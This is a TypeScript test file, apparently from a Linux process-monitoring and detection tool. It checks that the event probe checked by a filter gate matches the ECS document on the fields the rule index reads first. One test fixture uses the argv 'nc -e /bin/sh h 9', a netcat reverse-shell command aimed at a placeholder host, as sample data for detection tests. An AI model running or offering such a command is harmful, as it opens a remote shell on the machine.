/**
 * The probe an event is gated on (process-event.ts) holds, for every field the rule index reads
 * first, the value the event's document holds: a probe that differed could refuse an event some
 * rule would take.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FixtureProcFs } from '../../src/process/procfs.js';
import { ProcessEventStream } from '../../src/ecs/process-event-stream.js';
import type { EcsProcessEvent, ProcessEventProbe } from '../../src/ecs/process-event.js';
import { fieldSlot } from '../../src/eql/field-access.js';
import { MEMO_FIELDS } from '../../src/rules/rule-index.js';
import type { RawEvent } from '../../src/capture/raw-event.js';
import { makeProcTree, removeTree, writeProcess, type FixtureProcess } from '../process/proc-tree.js';
import { SteppedClock, changeEvent, execEvent, exitEvent, forkEvent, goneSnapshot } from '../process/raw-events.js';
import { SHELL, accounts, host } from './event-fixtures.js';

describe('the probe an event is gated on', () => {
  let root: string;
  let procfs: FixtureProcFs;
  let stream: ProcessEventStream;
  let probes: ProcessEventProbe[];

  beforeEach(() => {
    root = makeProcTree();
    writeProcess(root, { pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init'], exe: '/usr/lib/systemd/systemd', startTicks: 5 });
    writeProcess(root, SHELL);
    procfs = new FixtureProcFs(root);
    stream = new ProcessEventStream({ procfs, host, clock: new SteppedClock(1_800_000_000_000), accounts, monotonicNs: () => 1_000_000_000_000n });
    stream.seed();
    probes = [];
    stream.setGate((probe) => {
      probes.push(probe);
      return true;
    });
  });

  afterEach(() => removeTree(root));

  /** Each document with the probe its gate saw. */
  function pairs(events: RawEvent[]): [ProcessEventProbe, EcsProcessEvent][] {
    const out: [ProcessEventProbe, EcsProcessEvent][] = [];
    for (const raw of events) {
      const before = probes.length;
      const doc = stream.handle(raw);
      if (doc === null) continue;
      expect(probes.length).toBe(before + 1);
      out.push([probes[probes.length - 1]!, doc]);
    }
    return out;
  }

  function exec(p: FixtureProcess): RawEvent[] {
    writeProcess(root, p);
    return [forkEvent(p.ppid, p.pid, 1_000_500_000_000n), execEvent(p.pid, procfs.snapshot(p.pid), 1_000_500_000_000n)];
  }

  it('holds what the document holds in every field the index reads first', () => {
    const curl: FixtureProcess = { pid: 2000, ppid: 1200, comm: 'curl', argv: ['curl', '-s', 'http://x'], exe: '/usr/bin/curl', sid: 1200, uid: [1000, 1000], gid: [1000, 1000], startTicks: 60_000 };
    // a script run through its #! line: its name is the script's, not the interpreter's
    const script: FixtureProcess = { pid: 2001, ppid: 1200, comm: 'backup.sh', argv: ['/bin/sh', '/opt/backup.sh'], exe: '/usr/bin/dash', startTicks: 60_001 };
    // root by a setuid binary: effective 0, real 1000
    const sudo: FixtureProcess = { pid: 2002, ppid: 1200, comm: 'sudo', argv: ['sudo', 'id'], exe: '/usr/bin/sudo', uid: [1000, 0], gid: [1000, 1000], startTicks: 60_002 };
    // a parent the table never saw
    const orphan: FixtureProcess = { pid: 2003, ppid: 4242, comm: 'nc', argv: ['nc', '-e', '/bin/sh', 'h', '9'], exe: '/usr/bin/nc.openbsd', startTicks: 60_003 };
    const events: RawEvent[] = [
      ...exec(curl),
      ...exec(script),
      ...exec(sudo),
      ...exec(orphan),
      // an exec whose /proc was gone, an exit, an exit of a pid never seen, changes, a ptrace
      forkEvent(1200, 2004, 1_000_500_000_000n),
      execEvent(2004, goneSnapshot()),
      exitEvent(2000, 0),
      exitEvent(7777, 256),
      changeEvent('uid', 2002, { ruid: 0, euid: 0 }),
      changeEvent('sid', 2001),
      { ...changeEvent('comm', 2001), kind: 'ptrace', tracerPid: 2002, tracerTgid: 2002 },
    ];
    const all = pairs(events);
    expect(all.map(([, doc]) => doc.event.action)).toEqual(
      expect.arrayContaining(['fork', 'exec', 'end', 'uid_change', 'session_id_change', 'ptrace']),
    );
    let compared = 0;
    for (const [probe, doc] of all) {
      for (const field of MEMO_FIELDS) {
        const slot = fieldSlot(field.split('.'));
        expect({ field, action: doc.event.action, value: slot.read(probe as unknown as Record<string, unknown>) })
          .toEqual({ field, action: doc.event.action, value: slot.read(doc as unknown as Record<string, unknown>) });
        compared++;
      }
    }
    expect(compared).toBeGreaterThan(100);
    // the cases above did reach the probe as intended
    const execOf = (pid: number) => all.find(([, doc]) => doc.event.action === 'exec' && doc.process.pid === pid)!;
    expect(execOf(2001)[0].process.name).toBe('backup.sh');
    expect(execOf(2002)[0].user).toEqual({ id: '0' });
    expect(execOf(2003)[0].process.parent).toBeUndefined();
    expect(execOf(2003)[1].process.parent).toEqual({ pid: 4242 });
  });

  it('builds no document when the gate refuses, and counts it', () => {
    stream.setGate(() => false);
    const docs = exec({ pid: 2100, ppid: 1200, comm: 'ls', argv: ['ls'], exe: '/usr/bin/ls', startTicks: 61_000 }).map((raw) => stream.handle(raw));
    expect(docs).toEqual([null, null]);
    expect(stream.stats().notDocumented).toBe(2);
    expect(stream.stats().documents.exec).toBe(0);
    // the table followed the events all the same
    expect(stream.lookup(2100)?.image.name).toBe('ls');
  });
});
